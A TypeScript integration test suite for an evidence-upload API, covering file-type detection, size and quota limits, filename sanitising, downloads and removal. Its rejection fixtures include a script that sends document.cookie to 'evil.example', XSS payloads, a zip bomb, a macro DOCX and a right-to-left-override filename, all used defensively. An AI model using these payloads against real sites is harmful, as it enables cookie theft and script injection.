import type { INestApplication } from '@nestjs/common';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { Test } from '@nestjs/testing';
import type {
  AssessmentResponse,
  AssessmentSnapshotContent,
  ErrorResponse,
  EvidenceLinkTarget,
  EvidenceResponse,
  FrameworkVersionResponse,
  SubmissionResponse,
} from '@beacon/contracts';
import { emptyServiceFeatures, type ServiceProfile } from '@beacon/domain';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DataSource } from 'typeorm';
import { adminDataSource, http, waitFor, withEnv, importShippedCatalog } from '../../../test/harness';
import { sampleAnswer } from '../../../test/answer-samples';
import { addMember, type Session, signUp } from '../../../test/identity-fixtures';
import { ApiModule } from '../../api.module';
import { configureHttpApp } from '../../platform/http/configure-http-app';
import { JsonLogger } from '../../platform/logging/json-logger';
import { directoryUrl, EvidenceSettings } from './evidence-settings';
import { EVIDENCE_STORAGE, type EvidenceStorage } from './evidence-storage';
import { DOCX_TYPE, docxBomb, docxEntries, XLSX_TYPE, xlsxEntries, zerosEntry, zip } from './evidence.test-fixtures';

const PROFILE: ServiceProfile = {
  features: { ...emptyServiceFeatures(), userMedia: true, messaging: true, under18Accounts: true },
  sizeBand: 'medium',
  jurisdictions: ['FR', 'CA'],
  languages: ['en', 'fr'],
  sector: 'social-media',
};
const FRAMEWORKS = [{ slug: 'ncmec-minimum-safety-measures', version: '1.0.0' }];
const MAX_BYTES = 64 * 1024;
const QUOTA_BYTES = 160 * 1024;
const REQUIREMENT = 'MSM-1';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n');
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);
const DOCX = zip(docxEntries());
const XLSX = zip(xlsxEntries());
/** Inflated office content allowed here: small, so that a bomb fits under the upload limit. */
const MAX_UNCOMPRESSED_BYTES = 4 * 1024 * 1024;

/** Deterministic "random" bytes (a linear congruential generator), NULs and high bytes included. */
function noise(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length);
  let x = seed;
  for (let i = 0; i < length; i += 1) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out[i] = x >> 16;
  }
  return out;
}

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

const ATTESTATION = { name: 'Ada Owner', title: 'Head of Trust & Safety', statement: 'I attest these answers are accurate and complete.' };

/** A valid answer for any catalogue question. */

function binary(res: unknown, done: (err: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  const stream = res as NodeJS.ReadableStream;
  stream.on('data', (c: Buffer) => chunks.push(c));
  stream.on('end', () => done(null, Buffer.concat(chunks)));
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile())
    .map((d) => join(d.parentPath, d.name));
}

describe('evidence (real PostgreSQL)', () => {
  let api: INestApplication;
  let admin: DataSource;
  let owner: Session;
  let assessment: AssessmentResponse;
  let storageDir: string;

  const as = (s: Session) => ({ authorization: `Bearer ${s.accessToken}` });
  const upload = (session: Session, assessmentId: string, bytes: Buffer, filename: string, contentType = 'application/octet-stream', requirementKey = REQUIREMENT) =>
    http(api)
      .post(`/api/v1/assessments/${assessmentId}/evidence`)
      .set(as(session))
      .field('requirementKey', requirementKey)
      .attach('file', bytes, { filename, contentType });
  const create = async (session: Session): Promise<AssessmentResponse> =>
    (await http(api).post('/api/v1/assessments').set(as(session)).send({ title: 'Evidence review', frameworks: FRAMEWORKS, profile: PROFILE }).expect(201))
      .body as AssessmentResponse;
  const rowCount = async () => (await admin.query<{ n: number }[]>(`SELECT count(*)::int AS n FROM evidence`))[0]!.n;

  beforeAll(async () => {
    await importShippedCatalog();
    storageDir = mkdtempSync(join(tmpdir(), 'beacon-evidence-'));
    // As `startApi` builds it, with small limits and a private storage directory.
    api = await withEnv({}, async () => {
      const moduleRef = await Test.createTestingModule({ imports: [ApiModule] })
        .overrideProvider(EvidenceSettings)
        .useValue(new EvidenceSettings(MAX_BYTES, QUOTA_BYTES, directoryUrl(storageDir), { maxEntries: 1000, maxUncompressedBytes: MAX_UNCOMPRESSED_BYTES }))
        .compile();
      const app = moduleRef.createNestApplication<NestExpressApplication>({ bodyParser: false, logger: new JsonLogger('error', 'beacon-test') });
      configureHttpApp(app);
      await app.init();
      return app;
    });
    admin = await adminDataSource();
    owner = await signUp(api, 'evidence-co');
    assessment = await create(owner);
  });
  afterAll(async () => {
    await admin.destroy();
    await api.close();
    rmSync(storageDir, { recursive: true, force: true });
  });

  it.each([
    ['PDF', PDF, 'policy.pdf', 'application/pdf'],
    ['PNG', PNG, 'screenshot.png', 'image/png'],
    ['JPEG', JPEG, 'photo.jpg', 'image/jpeg'],
    ['plain text', Buffer.from('Moderation policy reviewed on 2025-01-10.\nNext review: in 12 months, by the trust & safety lead.\n'), 'notes.txt', 'text/plain'],
    ['CSV', Buffer.from('month,reports,"removed, total"\n2025-01,12,10\n2025-02,9,"9"\n'), 'reports.csv', 'text/csv'],
    ['DOCX', DOCX, 'procedure.docx', DOCX_TYPE],
    ['XLSX', XLSX, 'figures.xlsx', XLSX_TYPE],
    ['PDF named .png and sent as image/png (content wins)', PDF, 'disguised.png', 'application/pdf', 'image/png'],
  ])('accepts %s with the type read from its content and its SHA-256', async (_label, bytes, filename, mediaType, sentType = 'application/octet-stream') => {
    const res = await upload(owner, assessment.id, bytes, filename, sentType).expect(201);
    const body = res.body as EvidenceResponse;
    expect(body).toMatchObject({ kind: 'file', requirementKey: REQUIREMENT, fileName: filename, mediaType, sizeBytes: bytes.length, sha256: sha256(bytes) });
    const [row] = await admin.query<{ sha256: string; size_bytes: string; storage_key: string }[]>(`SELECT sha256, size_bytes, storage_key FROM evidence WHERE id = $1`, [body.id]);
    expect(row).toMatchObject({ sha256: sha256(bytes), size_bytes: String(bytes.length) });
    const audit = await admin.query<{ n: number }[]>(`SELECT count(*)::int AS n FROM audit_events WHERE action = 'evidence.added' AND target_id = $1`, [body.id]);
    expect(audit[0]!.n).toBe(1);
  });

  it.each([
    ['a Windows executable', Buffer.concat([Buffer.from('MZ'), noise(200)]), 'tool.exe', 'application/octet-stream'],
    ['HTML named .txt', Buffer.from('<!-- notes -->\n<html><body><script>alert(1)</script></body></html>\n'), 'notes.txt', 'text/plain'],
    ['random binary', noise(512, 42), 'data.bin', 'application/octet-stream'],
    ['a ZIP that is no office file', zip({ 'readme.txt': 'hello' }), 'archive.docx', DOCX_TYPE],
  ])('refuses %s with 415 and stores nothing', async (_label, bytes, filename, sentType) => {
    const rows = await rowCount();
    const files = filesUnder(storageDir).length;
    const res = await upload(owner, assessment.id, bytes, filename, sentType).expect(415);
    expect((res.body as ErrorResponse).code).toBe('EVIDENCE_UNSUPPORTED_TYPE');
    expect(await rowCount()).toBe(rows);
    expect(filesUnder(storageDir)).toHaveLength(files);
  });

  it.each([
    ['HTML under its own name', Buffer.from('<p>Quarterly review</p>\n'), 'review.html', 'text/html', 'markup-or-script-name'],
    ['XHTML under its own name', Buffer.from('Reviewed.\n'), 'review.xhtml', 'application/xhtml+xml', 'markup-or-script-name'],
    ['JavaScript under its own name', Buffer.from('run()\n'), 'helper.js', 'text/javascript', 'markup-or-script-name'],
    ['SVG under its own name', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'logo.svg', 'image/svg+xml', 'markup-or-script-name'],
    ['text the client calls HTML', Buffer.from('Plain words.\n'), 'notes.txt', 'text/html', 'markup-or-script-type'],
    ['an HTML fragment named .txt', Buffer.from('Summary\n<p>Quarterly <a href="https://example.org">review</a></p>\n'), 'notes.txt', 'text/plain', 'markup'],
    ['an event handler named .txt', Buffer.from('x <img src=x onerror=alert(document.cookie)>'), 'notes.txt', 'text/plain', 'markup'],
    ['XHTML named .txt', Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'), 'notes.txt', 'text/plain', 'markup'],
    ['SVG with a script named .txt', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'notes.txt', 'text/plain', 'markup'],
    ['JavaScript named .txt', Buffer.from('function steal() {\n  fetch("https://evil.example/?c=" + document.cookie);\n}\n'), 'notes.txt', 'text/plain', 'script'],
    ['a DOCX zip bomb whose headers understate its size', docxBomb(32), 'procedure.docx', DOCX_TYPE, 'zip-understated-size'],
    ['a DOCX that declares more than may be inflated', zip(docxEntries([zerosEntry('word/media/filler.bin', 5)])), 'procedure.docx', DOCX_TYPE, 'zip-too-large-uncompressed'],
    ['a DOCX with macros', zip(docxEntries([{ name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }])), 'procedure.docx', DOCX_TYPE, 'office-macros'],
  ])('refuses %s with 415, the field and the reason, and stores nothing', async (_label, bytes, filename, sentType, reason) => {
    expect(bytes.length).toBeLessThanOrEqual(MAX_BYTES);
    const rows = await rowCount();
    const files = filesUnder(storageDir).length;
    const res = await upload(owner, assessment.id, bytes, filename, sentType).expect(415);
    const error = res.body as ErrorResponse;
    expect(error).toMatchObject({ code: 'EVIDENCE_UNSUPPORTED_TYPE', details: [{ field: 'file', reasons: [reason] }] });
    expect(error.message).toContain('Send a PDF');
    expect(typeof error.correlationId).toBe('string');
    expect(await rowCount()).toBe(rows);
    expect(filesUnder(storageDir)).toHaveLength(files);
  });

  it('accepts prose that merely contains < signs as plain text', async () => {
    const prose = Buffer.from('Reports fell: 12 < 15 (x<y). Contact <trust-safety@example.org>.\nTemplate: Subject: <subject>, Body: <body>.\n');
    const body = (await upload(owner, assessment.id, prose, 'notes.txt', 'text/plain').expect(201)).body as EvidenceResponse;
    expect(body).toMatchObject({ fileName: 'notes.txt', mediaType: 'text/plain' });
  });

  it('refuses a file over the size limit with 413 while receiving it, and stores nothing', async () => {
    const rows = await rowCount();
    const files = filesUnder(storageDir).length;
    const res = await upload(owner, assessment.id, Buffer.alloc(MAX_BYTES + 1, 'a'), 'big.txt').expect(413);
    expect((res.body as ErrorResponse).code).toBe('EVIDENCE_FILE_TOO_LARGE');
    expect(await rowCount()).toBe(rows);
    expect(filesUnder(storageDir)).toHaveLength(files);
    // Exactly the limit is fine.
    await upload(owner, assessment.id, Buffer.alloc(MAX_BYTES, 'a'), 'limit.txt').expect(201);
  });

  it('refuses a file beyond the organization quota with 413 and a clear message', async () => {
    const company = await signUp(api, 'quota-co');
    const mine = await create(company);
    const chunk = Buffer.alloc(60 * 1024, 'q');
    await upload(company, mine.id, chunk, 'one.txt').expect(201);
    await upload(company, mine.id, chunk, 'two.txt').expect(201);
    const files = filesUnder(storageDir).length;
    const res = await upload(company, mine.id, chunk, 'three.txt').expect(413);
    const error = res.body as ErrorResponse;
    expect(error.code).toBe('EVIDENCE_QUOTA_EXCEEDED');
    expect(error.message).toContain('storage is full');
    expect(error.details).toEqual({ usedBytes: 120 * 1024, quotaBytes: QUOTA_BYTES, fileBytes: 60 * 1024 });
    expect(filesUnder(storageDir)).toHaveLength(files);
  });

  it('stores names without bidirectional or other control characters, and downloads under an extension that fits the detected type', async () => {
    const created = (await upload(owner, assessment.id, PDF, 'invoice\u202Efdp.exe', 'application/octet-stream').expect(201)).body as EvidenceResponse;
    expect(created.fileName).toBe('invoicefdp.exe');
    const [row] = await admin.query<{ file_name: string }[]>(`SELECT file_name FROM evidence WHERE id = $1`, [created.id]);
    expect(row!.file_name).toBe('invoicefdp.exe');
    const res = await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${created.id}`).set(as(owner)).buffer(true).parse(binary).expect(200);
    expect(Buffer.compare(res.body as Buffer, PDF)).toBe(0);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="invoicefdp.exe.pdf"; filename*=UTF-8''invoicefdp.exe.pdf`);

    const text = (await upload(owner, assessment.id, Buffer.from('Moderation notes.\n'), 'report.pdf', 'application/pdf').expect(201)).body as EvidenceResponse;
    const download = await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${text.id}`).set(as(owner)).expect(200);
    expect(download.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(download.headers['content-disposition']).toBe(`attachment; filename="report.pdf.txt"; filename*=UTF-8''report.pdf.txt`);
  });

  it('downloads the same bytes as an attachment with nosniff and the stored type', async () => {
    const name = 'Politique d’été (v2).pdf';
    const created = (await upload(owner, assessment.id, PDF, name, 'text/html').expect(201)).body as EvidenceResponse;
    expect(created.fileName).toBe(name);
    const res = await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${created.id}`).set(as(owner)).buffer(true).parse(binary).expect(200);
    expect(Buffer.compare(res.body as Buffer, PDF)).toBe(0);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Politique d__t_ (v2).pdf"; filename*=UTF-8''Politique%20d%E2%80%99%C3%A9t%C3%A9%20%28v2%29.pdf`,
    );
  });

  it('keeps links, listed with files, whose download answers the URL as JSON', async () => {
    const link = (
      await http(api)
        .post(`/api/v1/assessments/${assessment.id}/evidence/links`)
        .set(as(owner))
        .send({ requirementKey: REQUIREMENT, url: 'https://example.org/transparency-report', title: 'Transparency report 2025' })
        .expect(201)
    ).body as EvidenceResponse;
    expect(link).toMatchObject({ kind: 'link', url: 'https://example.org/transparency-report', title: 'Transparency report 2025', sha256: null });
    await http(api)
      .post(`/api/v1/assessments/${assessment.id}/evidence/links`)
      .set(as(owner))
      .send({ requirementKey: REQUIREMENT, url: 'javascript:alert(1)', title: 'x' })
      .expect(400);
    const target = (await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${link.id}`).set(as(owner)).expect(200)).body as EvidenceLinkTarget;
    expect(target).toEqual({ kind: 'link', url: 'https://example.org/transparency-report', title: 'Transparency report 2025' });
    const list = (await http(api).get(`/api/v1/assessments/${assessment.id}/evidence`).set(as(owner)).expect(200)).body as EvidenceResponse[];
    expect(list.map((e) => e.id)).toContain(link.id);
    expect(list.filter((e) => e.kind === 'file').length).toBeGreaterThan(0);
  });

  it('answers 404 for an unknown requirement and 409 once the assessment is submitted', async () => {
    const mine = await create(owner);
    const missing = await upload(owner, mine.id, PDF, 'a.pdf', 'application/pdf', 'NO-SUCH-1').expect(404);
    expect((missing.body as ErrorResponse).code).toBe('REQUIREMENT_NOT_FOUND');
    await http(api)
      .post(`/api/v1/assessments/${mine.id}/evidence/links`)
      .set(as(owner))
      .send({ requirementKey: 'NO-SUCH-1', url: 'https://example.org', title: 'x' })
      .expect(404);
    await admin.query(`UPDATE assessments SET status = 'submitted' WHERE id = $1`, [mine.id]);
    const files = filesUnder(storageDir).length;
    await upload(owner, mine.id, PDF, 'a.pdf').expect(409);
    expect(filesUnder(storageDir)).toHaveLength(files);
  });

  it('hides evidence from other organizations (404) and lets a viewer read but not upload (403)', async () => {
    const file = (await upload(owner, assessment.id, PNG, 'shot.png').expect(201)).body as EvidenceResponse;
    const stranger = await signUp(api, 'evidence-stranger');
    await http(api).get(`/api/v1/assessments/${assessment.id}/evidence`).set(as(stranger)).expect(404);
    await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${file.id}`).set(as(stranger)).expect(404);
    await upload(stranger, assessment.id, PNG, 'shot.png').expect(404);

    const viewer = await addMember(api, owner, 'viewer');
    await http(api).get(`/api/v1/assessments/${assessment.id}/evidence`).set(as(viewer)).expect(200);
    const res = await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${file.id}`).set(as(viewer)).buffer(true).parse(binary).expect(200);
    expect(Buffer.compare(res.body as Buffer, PNG)).toBe(0);
    const rows = await rowCount();
    await upload(viewer, assessment.id, PNG, 'shot.png').expect(403);
    expect(await rowCount()).toBe(rows);
  });

  describe('removal', () => {
    const remove = (session: Session, assessmentId: string, evidenceId: string) =>
      http(api).delete(`/api/v1/assessments/${assessmentId}/evidence/${evidenceId}`).set(as(session));
    const listed = async (session: Session, assessmentId: string) =>
      ((await http(api).get(`/api/v1/assessments/${assessmentId}/evidence`).set(as(session)).expect(200)).body as EvidenceResponse[]).map((e) => e.id);
    const pathOf = async (evidenceId: string) => {
      const [row] = await admin.query<{ storage_key: string }[]>(`SELECT storage_key FROM evidence WHERE id = $1`, [evidenceId]);
      return join(storageDir, ...row!.storage_key.split('/'));
    };
    const removals = (evidenceId: string) =>
      admin.query<{ organization_id: string; actor_user_id: string; details: Record<string, unknown> }[]>(
        `SELECT organization_id, actor_user_id, details FROM audit_events WHERE action = 'evidence.removed' AND target_id = $1`,
        [evidenceId],
      );
    /** The bytes go once the removal has committed, just after the response: poll briefly. */
    const leavesStorage = (path: string) => waitFor(() => Promise.resolve(!existsSync(path)), 5000, `${path} to leave the storage`);
    const rowExists = async (evidenceId: string) => (await admin.query<{ n: number }[]>(`SELECT count(*)::int AS n FROM evidence WHERE id = $1`, [evidenceId]))[0]!.n === 1;

    async function answerAll(session: Session, assessmentId: string): Promise<void> {
      const tree = (await http(api).get(`/api/v1/frameworks/${FRAMEWORKS[0]!.slug}/versions/${FRAMEWORKS[0]!.version}`).expect(200)).body as FrameworkVersionResponse;
      for (const question of tree.framework.sections.flatMap((s) => s.requirements.flatMap((r) => r.questions))) {
        await http(api)
          .put(`/api/v1/assessments/${assessmentId}/answers/${question.key}`)
          .set(as(session))
          .send({ value: sampleAnswer(question), expectedVersion: 0 })
          .expect(200);
      }
    }
    const submit = (session: Session, assessmentId: string) =>
      http(api).post(`/api/v1/assessments/${assessmentId}/submit`).set(as(session)).send({ attestation: ATTESTATION });
    const snapshotEvidence = async (snapshotId: string) =>
      (await admin.query<{ content: AssessmentSnapshotContent }[]>(`SELECT content FROM assessment_snapshots WHERE id = $1`, [snapshotId]))[0]!.content.evidence;

    it('removes a file (204): gone from the list, the download and the disk, audited, and its bytes no longer count against the quota', async () => {
      const company = await signUp(api, 'removal-co');
      const assessor = await addMember(api, company, 'assessor');
      const mine = await create(company);
      const chunk = Buffer.alloc(60 * 1024, 'r');
      const kept = (await upload(company, mine.id, chunk, 'kept.txt').expect(201)).body as EvidenceResponse;
      const doomed = (await upload(company, mine.id, Buffer.concat([chunk.subarray(1), Buffer.from('!')]), 'doomed.txt').expect(201)).body as EvidenceResponse;
      await upload(company, mine.id, chunk, 'third.txt').expect(413);
      const doomedPath = await pathOf(doomed.id);
      const keptPath = await pathOf(kept.id);
      expect(existsSync(doomedPath)).toBe(true);

      const res = await remove(assessor, mine.id, doomed.id).expect(204);
      expect(res.text).toBe('');
      expect(await listed(company, mine.id)).toEqual([kept.id]);
      await http(api).get(`/api/v1/assessments/${mine.id}/evidence/${doomed.id}`).set(as(company)).expect(404);
      await leavesStorage(doomedPath);
      expect(existsSync(keptPath)).toBe(true);

      const audit = await removals(doomed.id);
      expect(audit).toEqual([
        {
          organization_id: company.organizationId,
          actor_user_id: assessor.userId,
          details: { assessmentId: mine.id, requirementKey: REQUIREMENT, kind: 'file', fileName: 'doomed.txt', mediaType: 'text/plain', sizeBytes: doomed.sizeBytes, sha256: doomed.sha256 },
        },
      ]);

      // 60 KiB used of 160 KiB: the next file fits again.
      await upload(company, mine.id, chunk, 'third.txt').expect(201);
      await remove(company, mine.id, doomed.id).expect(404);
      expect(await removals(doomed.id)).toHaveLength(1);
    });

    it('removes a link (204), audited with its URL, and touches no file', async () => {
      const mine = await create(owner);
      const link = (
        await http(api)
          .post(`/api/v1/assessments/${mine.id}/evidence/links`)
          .set(as(owner))
          .send({ requirementKey: REQUIREMENT, url: 'https://example.org/old-policy', title: 'Old policy' })
          .expect(201)
      ).body as EvidenceResponse;
      const files = filesUnder(storageDir);
      await remove(owner, mine.id, link.id).expect(204);
      expect(await listed(owner, mine.id)).toEqual([]);
      expect((await removals(link.id)).map((e) => e.details)).toEqual([
        { assessmentId: mine.id, requirementKey: REQUIREMENT, kind: 'link', url: 'https://example.org/old-policy', title: 'Old policy' },
      ]);
      expect(filesUnder(storageDir)).toEqual(files);
    });

    it("refuses (409) to remove a submitted assessment's evidence and changes nothing; a new cycle's draft has evidence of its own, whose removal leaves the submission's files alone", async () => {
      const company = await signUp(api, 'submitted-co');
      const first = await create(company);
      const file = (await upload(company, first.id, PDF, 'policy.pdf', 'application/pdf').expect(201)).body as EvidenceResponse;
      const link = (
        await http(api)
          .post(`/api/v1/assessments/${first.id}/evidence/links`)
          .set(as(company))
          .send({ requirementKey: REQUIREMENT, url: 'https://example.org/report', title: 'Report' })
          .expect(201)
      ).body as EvidenceResponse;
      await answerAll(company, first.id);
      const submitted = (await submit(company, first.id).expect(201)).body as SubmissionResponse;
      const filePath = await pathOf(file.id);

      for (const evidence of [file, link]) {
        const refused = await remove(company, first.id, evidence.id).expect(409);
        expect((refused.body as ErrorResponse).code).toBe('ALREADY_SUBMITTED');
        expect(await removals(evidence.id)).toEqual([]);
      }
      expect((await listed(company, first.id)).sort()).toEqual([file.id, link.id].sort());
      expect(existsSync(filePath)).toBe(true);

      // The next cycle copies answers, not evidence: the draft starts with none.
      const next = (await http(api).post(`/api/v1/assessments/${first.id}/new-cycle`).set(as(company)).expect(201)).body as AssessmentResponse;
      expect(await listed(company, next.id)).toEqual([]);
      await remove(company, next.id, file.id).expect(404);
      const again = (await upload(company, next.id, PDF, 'policy.pdf', 'application/pdf').expect(201)).body as EvidenceResponse;
      const againPath = await pathOf(again.id);
      expect(againPath).not.toBe(filePath);
      await remove(company, next.id, again.id).expect(204);
      await leavesStorage(againPath);

      // The submission still has its evidence, its bytes intact.
      expect((await snapshotEvidence(submitted.snapshotId)).map((e) => e.id).sort()).toEqual([file.id, link.id].sort());
      const download = await http(api).get(`/api/v1/assessments/${first.id}/evidence/${file.id}`).set(as(company)).buffer(true).parse(binary).expect(200);
      expect(Buffer.compare(download.body as Buffer, PDF)).toBe(0);
    });

    it('never leaves a submission pointing at removed evidence when a removal races the submission', async () => {
      const company = await signUp(api, 'race-co');
      const first = await create(company);
      await answerAll(company, first.id);
      await submit(company, first.id).expect(201);
      let previous = first.id;
      const outcomes: number[] = [];
      for (let round = 0; round < 4; round += 1) {
        // A new cycle copies the answers, so each draft can be submitted at once.
        const draft = (await http(api).post(`/api/v1/assessments/${previous}/new-cycle`).set(as(company)).expect(201)).body as AssessmentResponse;
        const file = (await upload(company, draft.id, PNG, `round-${round}.png`).expect(201)).body as EvidenceResponse;
        const path = await pathOf(file.id);
        const [removed, submission] = await Promise.all([remove(company, draft.id, file.id), submit(company, draft.id)]);
        expect(submission.status).toBe(201);
        const inSnapshot = (await snapshotEvidence((submission.body as SubmissionResponse).snapshotId)).map((e) => e.id);
        if (removed.status === 204) {
          expect(inSnapshot).toEqual([]);
          await leavesStorage(path);
        } else {
          expect(removed.status).toBe(409);
          expect(inSnapshot).toEqual([file.id]);
          expect(await rowExists(file.id)).toBe(true);
          expect(existsSync(path)).toBe(true);
        }
        outcomes.push(removed.status);
        previous = draft.id;
      }
      expect(outcomes).toHaveLength(4);
    });

    it('answers 404 for unknown ids, for evidence of another assessment and for other organizations, 403 for a viewer, 400 for a malformed id; nothing changes', async () => {
      const mine = await create(owner);
      const file = (await upload(owner, mine.id, PNG, 'shot.png').expect(201)).body as EvidenceResponse;
      const path = await pathOf(file.id);
      const other = await create(owner);
      const stranger = await signUp(api, 'removal-stranger');
      const strangers = await create(stranger);
      const viewer = await addMember(api, owner, 'viewer');
      const rows = await rowCount();
      const unknown = '00000000-0000-4000-8000-000000000000';

      const notFound = await remove(owner, mine.id, unknown).expect(404);
      expect((notFound.body as ErrorResponse).code).toBe('EVIDENCE_NOT_FOUND');
      expect(((await remove(owner, unknown, file.id).expect(404)).body as ErrorResponse).code).toBe('ASSESSMENT_NOT_FOUND');
      // Evidence of the same organization, but of another assessment.
      expect(((await remove(owner, other.id, file.id).expect(404)).body as ErrorResponse).code).toBe('EVIDENCE_NOT_FOUND');
      // Another organization: its own assessment with our evidence id, or our ids outright.
      await remove(stranger, strangers.id, file.id).expect(404);
      await remove(stranger, mine.id, file.id).expect(404);
      await remove(viewer, mine.id, file.id).expect(403);
      const malformed = await remove(owner, mine.id, 'not-a-uuid').expect(400);
      expect(JSON.stringify(malformed.body)).toContain('uuid');

      expect(await rowCount()).toBe(rows);
      expect(await rowExists(file.id)).toBe(true);
      expect(await removals(file.id)).toEqual([]);
      // Give a wrongly scheduled file deletion the time it would need, then check the bytes stayed.
      await new Promise((r) => setTimeout(r, 300));
      expect(existsSync(path)).toBe(true);
    });

    it('keeps the file when the removal fails to commit (500): the row, its file and the audit log stay as they were', async () => {
      const mine = await create(owner);
      const file = (await upload(owner, mine.id, PNG, 'commit-fails.png').expect(201)).body as EvidenceResponse;
      const path = await pathOf(file.id);
      // A deferred check runs at COMMIT, after the handler has returned: the removal fails there.
      await admin.query(`
        CREATE FUNCTION test_refuse_evidence_removal() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN
          IF OLD.file_name = 'commit-fails.png' THEN RAISE EXCEPTION 'refused at commit'; END IF;
          RETURN OLD;
        END $$`);
      await admin.query(`
        CREATE CONSTRAINT TRIGGER test_refuse_evidence_removal AFTER DELETE ON evidence
        DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION test_refuse_evidence_removal()`);
      try {
        await remove(owner, mine.id, file.id).expect(500);
      } finally {
        await admin.query(`DROP TRIGGER test_refuse_evidence_removal ON evidence`);
        await admin.query(`DROP FUNCTION test_refuse_evidence_removal()`);
      }
      await new Promise((r) => setTimeout(r, 300));
      expect(await rowExists(file.id)).toBe(true);
      expect(existsSync(path)).toBe(true);
      expect(await removals(file.id)).toEqual([]);
      const download = await http(api).get(`/api/v1/assessments/${mine.id}/evidence/${file.id}`).set(as(owner)).buffer(true).parse(binary).expect(200);
      expect(Buffer.compare(download.body as Buffer, PNG)).toBe(0);
    });

    it('logs a file it could not delete after the removal committed: the row stays removed and the file is left as an orphan', async () => {
      const mine = await create(owner);
      const file = (await upload(owner, mine.id, PNG, 'stuck.png').expect(201)).body as EvidenceResponse;
      const path = await pathOf(file.id);
      const storage = api.get<EvidenceStorage>(EVIDENCE_STORAGE);
      const logger = api.get(JsonLogger);
      const failing = jest.spyOn(storage, 'delete').mockRejectedValueOnce(new Error('storage unavailable'));
      const events = jest.spyOn(logger, 'event').mockImplementation(() => undefined);
      try {
        await remove(owner, mine.id, file.id).expect(204);
        const logged = await waitFor(
          () => Promise.resolve(events.mock.calls.find(([, msg]) => msg === 'evidence.file-delete-failed')),
          5000,
          'the failed deletion to be logged',
        );
        expect(logged[0]).toBe('error');
        expect(logged[2]).toMatchObject({ organizationId: owner.organizationId, evidenceId: file.id, error: { message: 'storage unavailable' } });
        expect(failing).toHaveBeenCalledTimes(1);
      } finally {
        failing.mockRestore();
        events.mockRestore();
      }
      expect(await rowExists(file.id)).toBe(false);
      expect(await removals(file.id)).toHaveLength(1);
      expect(existsSync(path)).toBe(true);
    });

    it('is described in the OpenAPI document: evidence tag, both path ids, 204', async () => {
      const spec = (await http(api).get('/api/docs/openapi.json').expect(200)).body as {
        paths: Record<string, Record<string, { tags?: string[]; summary?: string; parameters?: { name: string; in: string }[]; responses: Record<string, unknown> }>>;
      };
      const operation = spec.paths['/api/v1/assessments/{id}/evidence/{evidenceId}']?.['delete'];
      expect(operation?.tags).toEqual(['evidence']);
      expect(operation?.summary).toContain('409');
      expect(operation?.parameters?.filter((p) => p.in === 'path').map((p) => p.name)).toEqual(['id', 'evidenceId']);
      expect(Object.keys(operation?.responses ?? {}).filter((status) => status.startsWith('2'))).toEqual(['204']);
    });

    it('lets no two rows share a storage key, so removing one row can never take bytes another row needs', async () => {
      const mine = await create(owner);
      const file = (await upload(owner, mine.id, PNG, 'unique.png').expect(201)).body as EvidenceResponse;
      await expect(
        admin.query(
          `INSERT INTO evidence (organization_id, assessment_id, requirement_key, kind, file_name, media_type, size_bytes, sha256, storage_key, created_by)
           SELECT organization_id, assessment_id, requirement_key, kind, file_name, media_type, size_bytes, sha256, storage_key, created_by FROM evidence WHERE id = $1`,
          [file.id],
        ),
      ).rejects.toThrow(/UQ_evidence_storage_key/);
    });
  });
});
